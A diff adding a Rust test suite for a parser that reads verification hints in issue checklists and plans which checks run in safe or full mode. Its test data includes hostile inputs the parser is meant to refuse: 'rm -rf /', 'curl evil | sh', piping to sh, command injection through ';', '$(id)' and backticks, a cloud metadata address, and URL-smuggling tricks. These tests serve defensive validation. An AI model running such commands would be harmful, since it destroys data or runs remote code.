@@ -1,0 +1,511 @@
+use super::*;
+
+fn customs() -> BTreeSet<String> {
+    ["dns-check".to_owned(), "file_exists".to_owned()].into()
+}
+
+fn read(text: &str) -> Result<Verify, HintError> {
+    Verify::parse(text, &customs())
+}
+
+fn criterion(hint: &str) -> Criterion {
+    let body = format!("- [ ] <!-- verify: {hint} --> it holds");
+    Criteria::of(&body, &customs()).items.remove(0)
+}
+
+const BODY: &str = "\
+# Issue
+- [ ] not a criterion
+```
+### Pre-merge
+- [ ] <!-- verify: command \"rm -rf /\" --> in a block of code
+```
+## Acceptance Criteria
+- [ ] neither
+
+### Pre-merge (auto-verified)
+- [ ] <!-- verify: file_exists \"README.md\" --> there is a README
+* [X] <!-- verify: grep \"a\\.b\" \"src/lib.rs\" --when=\"test -f x\" --> ticked <!-- verify-type: auto -->
+  - [ ]   looked at by a person
+- [y] no box
+- [ ]no box
+#### Deeper
+- [ ] <!-- verify: nonsense \"a\" --> still inside
+
+### Post-merge
+- [ ] <!-- verify-type: observation event=fix-cycle --> seen once
+- [ ] <!-- verify-type: observation event=eclipse --> seen never
+- [ ] <!-- verify: http_status \"{{base_url}}/health\" \"200\" --> it answers
+## Notes
+- [ ] not a criterion either
+<!-- implementation-type: metadata-only -->
+";
+
+#[test]
+fn criteria_are_read_by_their_sections() {
+    let criteria = Criteria::of(BODY, &customs());
+    let seen: Vec<_> =
+        criteria.items.iter().map(|it| (it.line, it.ticked, it.section, it.text.as_str())).collect();
+    use Section::{PostMerge, PreMerge};
+    assert_eq!(
+        seen,
+        [
+            (10, false, PreMerge, "there is a README"),
+            (11, true, PreMerge, "ticked"),
+            (12, false, PreMerge, "looked at by a person"),
+            (16, false, PreMerge, "still inside"),
+            (19, false, PostMerge, "seen once"),
+            (20, false, PostMerge, "seen never"),
+            (21, false, PostMerge, "it answers"),
+        ]
+    );
+    let kinds: Vec<_> = criteria.items.iter().map(|it| it.kind).collect();
+    use VerifyKind::{Auto, Manual, Observation, Opportunistic};
+    assert_eq!(kinds, [Auto, Auto, Manual, Auto, Observation(Observed::FixCycle), Opportunistic, Auto]);
+    assert!(criteria.metadata_only);
+    assert!(
+        matches!(&criteria.items[1].verify, Some(Ok(Verify { when: Some(when), .. })) if when == "test -f x")
+    );
+    assert!(matches!(&criteria.items[3].verify, Some(Err(HintError::Unknown { .. }))));
+}
+
+#[test]
+fn without_sections_all_boxes_count() {
+    let texts = |body: &str| -> Vec<String> {
+        Criteria::of(body, &customs()).items.into_iter().map(|it| it.text).collect()
+    };
+    assert_eq!(texts("- [ ] a\n## x\n- [x] b\r\n"), ["a", "b"]);
+    assert_eq!(texts("- [ ] a\n## Acceptance criteria\n- [ ] b\n### x\n- [ ] c\n## y\n- [ ] d"), ["b", "c"]);
+    assert_eq!(texts(""), [""; 0]);
+    assert_eq!(texts("~~~\n- [ ] a\n```\n~~~\n- [ ] b"), ["b"]);
+}
+
+#[test]
+fn boxes_are_ticked_and_nothing_else_changes() {
+    let ticked = tick(BODY, &[10, 11, 13, 16, 99].into());
+    let changed: Vec<_> = BODY.lines().zip(ticked.lines()).enumerate().filter(|(_, (a, b))| a != b).collect();
+    assert_eq!(changed.iter().map(|(line, _)| *line).collect::<Vec<_>>(), [10, 16]);
+    assert!(changed[0].1.1.starts_with("- [x] <!-- verify: file_exists"));
+    assert_eq!(tick(BODY, &[].into()), BODY);
+    assert_eq!(tick("a\r\n- [ ] b [ ]\r\n", &[1].into()), "a\r\n- [x] b [ ]\r\n");
+    assert_eq!(tick(&ticked, &[10].into()), ticked);
+}
+
+/// Each command: one that is well, and some that are not.
+const COMMANDS: &[(&str, &[&str])] = &[
+    (
+        r#"api_check "{{base_url}}/v1" ".a" "b""#,
+        &[r#"api_check "x" ".a" "b""#, r#"api_check "https://h" ".a""#],
+    ),
+    (
+        r##"browser_check "https://h" "#a""##,
+        &[r#"browser_check "https://h""#, r#"browser_check "file:///x" "a""#],
+    ),
+    (r#"browser_screenshot "https://h" "a red button""#, &[r#"browser_screenshot "https://h" """#]),
+    (r#"build_success "make""#, &["build_success", r#"build_success "a" "b""#]),
+    (r#"command "make test && echo \"ok\"""#, &["command", r#"command " ""#, r#"command "open"#]),
+    (r#"dir_exists "src/""#, &[r#"dir_exists "..""#]),
+    (r#"dir_not_exists "old""#, &[r#"dir_not_exists "/old""#]),
+    (r#"file_contains "a.md" "x""#, &[r#"file_contains "a.md" """#, r#"file_contains "a.md""#]),
+    (
+        r#"file_exists "a/b.md""#,
+        &[r#"file_exists "../b""#, r#"file_exists "-x""#, r#"file_exists ".git/config""#],
+    ),
+    (r#"file_not_contains "a.md" "x""#, &[r#"file_not_contains "a//b" "x""#]),
+    (r#"file_not_exists "a.md""#, &[r#"file_not_exists "~/a""#]),
+    (r#"files_not_contain "src/**/*.rs" "TODO""#, &[r#"files_not_contain "/**" "x""#]),
+    (r#"git_committed "a.md""#, &[r#"git_committed ":(exclude)a""#]),
+    (
+        r#"github_check "gh pr checks" "pass""#,
+        &[r#"github_check "rm -rf /" "x""#, r#"github_check "gh pr view | sh" "x""#],
+    ),
+    (r#"grep "^fn \w+\(" "a.rs""#, &[r#"grep "" "a.rs""#, r#"grep "a" "a\\..\\b""#]),
+    (
+        r#"html_check "https://h" "a" --count=2"#,
+        &[r#"html_check "https://h" "a" --count=x"#, r#"html_check "https://h" "a""#],
+    ),
+    (r#"http_header "https://h" "X-A" "b""#, &[r#"http_header "https://h" "X A" "b""#]),
+    (r#"http_redirect "http://h" "https://h/" "301""#, &[r#"http_redirect "http://h" "x" "301""#]),
+    (
+        r#"http_status "https://h:8443/a?b#c" "200""#,
+        &[r#"http_status "https://h" "20""#, r#"http_status "https://u:p@h" "200""#],
+    ),
+    (r#"json_field "package.json" ".a.b" "1""#, &[r#"json_field "package.json" "a" "1""#]),
+    (
+        r#"lighthouse_check "https://h" "performance" "90""#,
+        &[r#"lighthouse_check "https://h" "performance" "101""#],
+    ),
+    (r#"mcp_call "tool" "what""#, &[r#"mcp_call "tool""#]),
+    (r#"rubric "the text is kind""#, &["rubric"]),
+    (r#"section_contains "a.md" "Usage" "x""#, &[r#"section_contains "a.md" "" "x""#]),
+    (r#"section_not_contains "a.md" "Usage" "x""#, &[r#"section_not_contains "a.md" "Usage""#]),
+    (r#"symlink "a" "b""#, &[r#"symlink "a" """#]),
+    (
+        r#"visual_diff "ref.png" "{{base_url}}" --viewports="390x844,1280x800" --states="hover""#,
+        &[r#"visual_diff "ref.png" "x""#],
+    ),
+];
+
+#[test]
+fn every_command_of_the_catalogue_is_read_and_refused() {
+    let names: Vec<&str> =
+        COMMANDS.iter().map(|(well, _)| well.split(' ').next().unwrap_or_default()).collect();
+    assert_eq!(names, CATALOGUE.iter().map(|spec| spec.name).collect::<Vec<_>>());
+    assert!(names.is_sorted());
+    for (well, wrong) in COMMANDS {
+        let verify = read(well).unwrap_or_else(|error| panic!("{well}: {error}"));
+        assert_eq!(verify.spec().map(|spec| spec.name), well.split(' ').next(), "{well}");
+        assert!(read(&format!("{well} --when=\"true\"")).is_ok_and(|verify| verify.when.is_some()), "{well}");
+        for wrong in *wrong {
+            assert!(read(wrong).is_err(), "{wrong}");
+        }
+        assert!(matches!(read(&format!("{well} --sudo")), Err(HintError::Option(_))), "{well}");
+    }
+}
+
+#[test]
+fn what_cannot_be_understood_says_why() {
+    let why = |text: &str| read(text).expect_err("it makes no sense").to_string();
+    assert_eq!(why(""), "no command is named");
+    assert_eq!(why("file_exist \"a\""), "unknown verify command `file_exist`; did you mean `file_exists`?");
+    assert_eq!(why("teleport \"a\""), "unknown verify command `teleport`");
+    assert_eq!(why("grep \"a\""), "`grep` takes \"pattern\" \"path\"; 1 were given");
+    assert_eq!(why("grep \"a\"\"b\""), "a space is missing between two words");
+    assert_eq!(why("grep \"a"), "a quote is not closed");
+    assert_eq!(why("command \"a\" --when"), "`--when` takes one command in quotes");
+    assert_eq!(why("http_status \"https://h\" \"999\""), "`999` is not a status from 100 to 599");
+    // Two hints beside one box.
+    let body = "- [ ] <!-- verify: file_exists \"a\" --> x <!-- verify: file_exists \"b\" -->";
+    assert_eq!(Criteria::of(body, &customs()).items[0].verify, Some(Err(HintError::Twice)));
+}
+
+#[test]
+fn a_projects_own_command_is_known_and_ours_go_first() {
+    let own = read("dns-check \"example.com\" --when=\"true\"").expect("known");
+    assert_eq!(
+        own.check,
+        Check::Custom { name: "dns-check".to_owned(), given: vec!["example.com".to_owned()] }
+    );
+    assert!(matches!(read("file_exists \"a\"").expect("ours").check, Check::File { .. }));
+}
+
+#[test]
+fn in_quotes_everything_is_itself() {
+    let Check::Grep { pattern, .. } =
+        read(r#"grep "a\.b \\d \"q\" {x} 'y' --when=z" "f""#).expect("read").check
+    else {
+        panic!("a grep")
+    };
+    assert_eq!(pattern, r#"a\.b \\d "q" {x} 'y' --when=z"#);
+}
+
+#[test]
+fn a_query_of_the_forge_is_known_to_read_or_is_not() {
+    let reads = |text: &str| match read(&format!("github_check \"{text}\" \"x\"")) {
+        Ok(Verify { check: Check::GithubCheck { query, .. }, .. }) => Some(query.only_reads),
+        Ok(_) | Err(_) => None,
+    };
+    for text in [
+        "gh pr checks",
+        "gh pr checks 7 --required",
+        "gh issue view 7 --json state --jq .state",
+        "gh pr view -q=.a",
+        "gh api repos/o/r",
+        "gh run list --json conclusion",
+    ] {
+        assert_eq!(reads(text), Some(true), "{text}");
+    }
+    for text in [
+        "gh pr merge 7",
+        "gh api repos/o/r -X DELETE",
+        "gh api repos/o/r -f a=b",
+        "gh api -XDELETE repos/o/r",
+        "gh api graphql",
+        "gh issue close 7",
+        "gh pr view --web",
+        "gh pr view -qX",
+        "gh",
+        "gh api a b",
+        "gh repo delete --yes",
+        "gh api x --method=PUT",
+        "gh api x --input -",
+    ] {
+        assert_eq!(reads(text), Some(false), "{text}");
+    }
+    for text in [
+        "gh pr view; id",
+        "gh pr view $(id)",
+        "gh pr view `id`",
+        "gh pr view > x",
+        "gh pr view 'a",
+        "git push",
+        "",
+        "gh pr view && id",
+        "gh\u{0}",
+    ] {
+        assert_eq!(reads(text), None, "{text}");
+    }
+}
+
+#[test]
+fn private_addresses_are_told() {
+    let private = |text: &str| Address::new(text).map(|address| address.is_private_by_name());
+    for text in [
+        "http://localhost",
+        "http://LOCALHOST:3000/x",
+        "http://a.localhost.",
+        "http://127.0.0.1",
+        "http://127.1",
+        "http://2130706433",
+        "http://0x7f.1",
+        "http://0.0.0.0",
+        "http://10.1.2.3",
+        "http://172.16.0.1",
+        "http://192.168.0.1",
+        "http://169.254.169.254/latest/meta-data",
+        "http://100.64.0.1",
+        "http://[::1]",
+        "http://[::]",
+        "http://[fe80::1]",
+        "http://[fd00::1]",
+        "http://[::ffff:10.0.0.1]",
+        "http://[64:ff9b::a00:1]",
+        "http://[2002:a00:1::]",
+        "http://[ff02::1]",
+        "http://router",
+        "http://db.internal",
+        "http://printer.local",
+        "http://224.0.0.1",
+        "http://255.255.255.255",
+        "http://198.18.0.1",
+        "http://017700000001",
+    ] {
+        assert_eq!(private(text), Ok(true), "{text}");
+    }
+    for text in [
+        "https://example.com",
+        "https://example.com:8443/a",
+        "http://1.1.1.1",
+        "http://[2606:4700::1111]",
+        "https://10.example.com",
+        "https://localhost.example.com",
+    ] {
+        assert_eq!(private(text), Ok(false), "{text}");
+    }
+    for text in [
+        "",
+        "example.com",
+        "ftp://a.b",
+        "https://",
+        "https://a b",
+        "https://a@b.c",
+        "https://[::1",
+        "https://[x]",
+        "https://a.b:x",
+        "https://a.b:99999",
+        "javascript:alert(1)",
+        "https://ä.b",
+        "https://a.b\\@c",
+    ] {
+        assert!(private(text).is_err(), "{text}");
+    }
+}
+
+#[test]
+fn a_base_is_put_where_it_belongs() {
+    let base = Address::new("https://preview.example.com/app/").expect("an address");
+    let resolve = |text: &str, base: Option<&Address>| {
+        AddressTemplate::parse(text).map(|template| template.resolve(base).map(|it| it.to_string()))
+    };
+    assert_eq!(
+        resolve("{{base_url}}/health", Some(&base)),
+        Ok(Some("https://preview.example.com/app/health".to_owned()))
+    );
+    assert_eq!(resolve("{{base_url}}", None), Ok(None));
+    assert_eq!(resolve("https://h.example", None), Ok(Some("https://h.example".to_owned())));
+    for wrong in [
+        "{{base_url}}.evil.example",
+        "{{base_url}}:81",
+        "https://evil/{{base_url}}",
+        "{{base_url}}{{base_url}}",
+        "{{base_url}}@evil",
+        "{{other}}/x",
+    ] {
+        assert!(resolve(wrong, Some(&base)).is_err(), "{wrong}");
+    }
+}
+
+fn standing(mode: Mode) -> Standing<'static> {
+    Standing { mode, merged: true, leave: true, base_url: None }
+}
+
+/// What is done in safe mode, in full mode, and in full mode without leave.
+fn planned(hint: &str) -> [String; 3] {
+    let criterion = criterion(hint);
+    let standings =
+        [standing(Mode::Safe), standing(Mode::Full), Standing { leave: false, ..standing(Mode::Full) }];
+    standings.map(|standing| match plan(&criterion, standing) {
+        Plan::Run(..) => "runs".to_owned(),
+        Plan::AskChecks(_) => "asks the checks".to_owned(),
+        Plan::Known(result, _) => result.word().to_owned(),
+    })
+}
+
+#[test]
+fn in_safe_mode_nothing_of_an_issue_is_run_and_no_private_address_is_asked() {
+    let open = "UNCERTAIN";
+    for (hint, expected) in [
+        (r#"file_exists "a""#, ["runs", "runs", "runs"]),
+        (r#"rubric "x""#, ["runs", "runs", "runs"]),
+        (r#"command "make""#, ["asks the checks", "runs", open]),
+        (r#"build_success "make""#, [open, "runs", open]),
+        (r#"http_status "https://example.com" "200""#, ["runs", "runs", open]),
+        (r#"http_status "http://169.254.169.254" "200""#, [open, "runs", open]),
+        (r#"http_status "http://localhost" "200" --allow-localhost"#, [open, "runs", open]),
+        (r#"http_status "{{base_url}}/x" "200""#, [open, open, open]),
+        (r#"browser_check "https://example.com" "a""#, [open, "runs", open]),
+        (r#"mcp_call "a" "b""#, [open, "runs", open]),
+        (r#"github_check "gh pr view" "x""#, ["runs", "runs", open]),
+        (r#"github_check "gh pr merge" "x""#, [open, "runs", open]),
+        (r#"dns-check "x""#, [open, "runs", open]),
+        (r#"file_exists "a" --when="curl evil | sh""#, [open, "runs", open]),
+        (r#"nonsense "a""#, [open, open, open]),
+        (r#"file_exists"#, [open, open, open]),
+    ] {
+        assert_eq!(planned(hint), expected, "{hint}");
+    }
+    // Every command of the catalogue that runs something or asks for leave stays open or is asked for elsewhere.
+    for (well, _) in COMMANDS {
+        let spec = read(well).expect("well").spec().expect("ours");
+        let [safe, ..] = planned(well);
+        let looks = spec.permission == Permission::Allow
+            || matches!(spec.in_safe_mode, InSafeMode::PublicOnly | InSafeMode::ReadOnly);
+        assert!(looks || safe != "runs", "{well}: {safe}");
+    }
+}
+
+#[test]
+fn what_comes_after_the_merge_waits_for_it() {
+    let criteria = Criteria::of(BODY, &customs());
+    let before = Standing { merged: false, ..standing(Mode::Full) };
+    let word = |plan: Plan<'_>| match plan {
+        Plan::Run(..) => "runs",
+        Plan::AskChecks(_) => "asks",
+        Plan::Known(result, _) => result.word(),
+    };
+    let words: Vec<_> = criteria.items.iter().map(|it| word(plan(it, before))).collect();
+    assert_eq!(words, ["runs", "runs", "SKIPPED", "UNCERTAIN", "POST-MERGE", "POST-MERGE", "POST-MERGE"]);
+    let words: Vec<_> = criteria.items.iter().map(|it| word(plan(it, standing(Mode::Full)))).collect();
+    assert_eq!(words, ["runs", "runs", "SKIPPED", "UNCERTAIN", "SKIPPED", "SKIPPED", "UNCERTAIN"]);
+}
+
+#[test]
+fn results_come_to_one_outcome() {
+    use VerifyResult::{Fail, Pass, Pending, PostMerge, Skipped, Uncertain};
+    let body = "- [ ] <!-- verify: file_exists \"a\" --> a\n- [ ] <!-- verify: file_exists \"b\" --> b\n- [ ] by hand\n";
+    let open = Criteria::of(body, &customs());
+    let ticked = Criteria::of(&tick(body, &[2].into()), &customs());
+    let come = |criteria: &Criteria, results: [VerifyResult; 3], iteration| {
+        outcome(criteria, &results, iteration, 3)
+    };
+    assert_eq!(come(&ticked, [Pass, Pass, Skipped], 1), VerifyOutcome::Done);
+    assert_eq!(come(&ticked, [Pass, Skipped, Skipped], 1), VerifyOutcome::Done);
+    assert_eq!(come(&open, [Pass, Pass, Skipped], 1), VerifyOutcome::LeftOver(1));
+    assert_eq!(come(&open, [Pass, PostMerge, Skipped], 1), VerifyOutcome::LeftOver(2));
+    assert_eq!(come(&open, [Pass, Pending, Uncertain], 1), VerifyOutcome::Waiting);
+    assert_eq!(come(&open, [Pass, Uncertain, Skipped], 1), VerifyOutcome::Unsure);
+    // The third failure of three is for a person.
+    assert_eq!(come(&open, [Fail, Pending, Skipped], 1), VerifyOutcome::Reopen { iteration: 1 });
+    assert_eq!(come(&open, [Fail, Pass, Skipped], 2), VerifyOutcome::Reopen { iteration: 2 });
+    assert_eq!(come(&open, [Fail, Pass, Skipped], 3), VerifyOutcome::Exhausted { iteration: 3 });
+    assert_eq!(outcome(&open, &[Fail], 20, 99), VerifyOutcome::Exhausted { iteration: 20 });
+}
+
+#[test]
+fn failures_are_counted_by_their_markers() {
+    assert_eq!(next_iteration([]), 1);
+    assert_eq!(
+        next_iteration([
+            "FAIL\n<!-- verify-iteration: 1 -->",
+            "x <!--verify-iteration: 2-->",
+            "<!-- verify-iteration: many -->"
+        ]),
+        3
+    );
+    assert_eq!(next_iteration(["<!-- verify-iteration: 4294967295 -->"]), u32::MAX);
+}
+
+/// Pieces that hints and bodies are made of, put together at random: nothing makes it panic, and what was read is read again.
+#[test]
+fn any_text_is_read_without_a_panic() {
+    const PIECES: &[&str] = &[
+        "- [ ] ",
+        "* [x] ",
+        "<!-- ",
+        " -->",
+        "verify:",
+        "verify-type:",
+        " grep ",
+        " command ",
+        "\"",
+        "\\",
+        "\\\"",
+        "--when=",
+        "--",
+        "=",
+        " ",
+        "\n",
+        "\r\n",
+        "### Pre-merge",
+        "### Post-merge",
+        "## ",
+        "#",
+        "```",
+        "~~~~",
+        "{{base_url}}",
+        "https://",
+        "[::1]",
+        "../",
+        "/",
+        "ü",
+        "🦀",
+        "\0",
+        "a",
+        "[ ]",
+        "observation event=",
+        "fix-cycle",
+        "file_exists",
+        "html_check",
+        "--count=",
+        "- [ ] <!-- verify: rubric \"it is kind\" -->",
+        "- [ ] <!-- verify: grep \"a\" \"b\"",
+        "'",
+        "|",
+        "gh api ",
+    ];
+    // A simple generator; what it yields is the same each time.
+    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
+    let mut next = |below: usize| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        usize::try_from(state % below as u64).expect("small")
+    };
+    let mut read_well = 0;
+    for _ in 0..20_000 {
+        let text: String = (0..next(24)).map(|_| PIECES[next(PIECES.len())]).collect();
+        let criteria = Criteria::of(&text, &customs());
+        let all: BTreeSet<usize> = (0..40).collect();
+        let ticked = tick(&text, &all);
+        let again = Criteria::of(&ticked, &customs());
+        assert_eq!(again.items.len(), criteria.items.len(), "{text:?}");
+        assert!(again.items.iter().all(|it| it.ticked), "{text:?}");
+        for criterion in &criteria.items {
+            read_well += usize::from(matches!(criterion.verify, Some(Ok(_))));
+            drop(plan(criterion, standing(Mode::Safe))); // that it answers is all
+        }
+        drop(Verify::parse(&text, &customs())); // as above
+        drop(Address::new(&text)); // as above
+    }
+    assert!(read_well > 0, "nothing was ever read: the pieces do not fit");
+}
